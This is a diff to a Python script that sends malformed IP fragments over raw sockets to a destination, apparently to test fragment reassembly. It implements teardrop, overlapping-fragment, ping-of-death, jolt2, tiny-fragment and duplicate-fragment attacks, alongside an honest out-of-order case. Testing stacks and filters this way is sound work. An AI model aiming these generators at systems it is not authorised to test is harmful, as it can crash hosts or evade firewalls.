@@ -1,7 +1,7 @@
 """fragments.py KIND DESTINATION   sends fragments through raw sockets: such as no stack makes, and honest ones in `disorder`.
 
-Twenty datagrams of a kind, each with an identification of its own, 20 ms apart. The sizes of `teardrop` and `jolt2` are those
-of the programs that gave these attacks their names.
+Twenty datagrams of a kind, 20 ms apart, each with an identification of its own: what another kind left unfinished must not
+complete them. The sizes of `teardrop` and `jolt2` are those of the programs that gave these attacks their names.
 """
 import random
 import socket
@@ -16,9 +16,11 @@ family = socket.AF_INET6 if ipv6 else socket.AF_INET
 wire = socket.socket(family, socket.SOCK_RAW, 44 if ipv6 else socket.IPPROTO_RAW)
 
 ICMP, TCP, UDP = 58 if ipv6 else 1, 6, 17
+KINDS = "teardrop", "overlap", "ping-of-death", "jolt2", "duplicate", "tiny", "disorder"
 
 
-def send(identification, protocol, offset, more, data):
+def send(number, protocol, offset, more, data):
+    identification = 2000 * (1 + KINDS.index(kind)) + number
     if ipv6:
         header = struct.pack("!BBHI", protocol, 0, offset | more, identification)
     else:
@@ -36,52 +38,52 @@ def syn(dport):
     return struct.pack("!HHIIBBHHH", 40000, dport, 1, 0, 0x50, 2, 1024, 0, 0)
 
 
-def teardrop(identification):
+def teardrop(number):
     """The second fragment ends within the first; and the first has an odd length."""
-    send(identification, UDP, 0, 1, udp(64)[:36])
-    send(identification, UDP, 24, 0, bytes(4))
+    send(number, UDP, 0, 1, udp(64)[:36])
+    send(number, UDP, 24, 0, bytes(4))
 
 
-def overlap(identification):
+def overlap(number):
     """The second fragment rewrites the control bits that the first one showed to a filter (RFC 3128, RFC 5722)."""
-    send(identification, TCP, 0, 1, syn(identification)[:16] + bytes(16))
-    send(identification, TCP, 8, 0, syn(identification)[8:20] + bytes(12))
+    send(number, TCP, 0, 1, syn(number)[:16] + bytes(16))
+    send(number, TCP, 8, 0, syn(number)[8:20] + bytes(12))
 
 
-def ping_of_death(identification):
+def ping_of_death(number):
     """An echo request of more than 65535 octets, in its last three fragments."""
     for offset in (62560, 64000, 65440):
-        send(identification, ICMP, offset, int(offset != 65440), bytes(1440 if offset != 65440 else 104))
+        send(number, ICMP, offset, int(offset != 65440), bytes(1440 if offset != 65440 else 104))
 
 
-def jolt2(identification):
+def jolt2(number):
     """The same fragment again and again, which claims to end past the last octet."""
-    send(1109, ICMP, 65520, 0, bytes(48))
+    send(0, ICMP, 65520, 0, bytes(48))
 
 
-def duplicate(identification):
+def duplicate(number):
     """Each fragment twice."""
     datagram = udp(64)
     for start in (0, 0, 32, 32):
-        send(identification, UDP, start, int(start == 0), datagram[start:start + 32])
+        send(number, UDP, start, int(start == 0), datagram[start:start + 32])
 
 
-def tiny(identification):
+def tiny(number):
     """The ports in the first fragment, the control bits in the second one (RFC 1858)."""
-    segment = syn(identification)
-    send(identification, TCP, 0, 1, segment[:8])
-    send(identification, TCP, 8, 0, segment[8:])
+    segment = syn(number)
+    send(number, TCP, 0, 1, segment[:8])
+    send(number, TCP, 8, 0, segment[8:])
 
 
-def disorder(identification):
+def disorder(number):
     """A datagram in parts of random sizes, the next one begun before it is complete: honest, whatever the network did."""
-    order = random.Random(identification)
-    for datagram in identification, identification + 1000:
+    order = random.Random(number)
+    for datagram in number, number + 1000:
         octets = udp(1400)
         cuts = sorted(order.sample(range(8, 1400, 8), 5))
         parts.extend((datagram, start, end, octets[start:end]) for start, end in zip([0, *cuts], [*cuts, 1400]))
     order.shuffle(parts)
-    for _ in range(9 if identification < 20 else len(parts)):
+    for _ in range(9 if number < 20 else len(parts)):
         datagram, start, end, octets = parts.pop()
         send(datagram, UDP, start, int(end < 1400), octets)
 
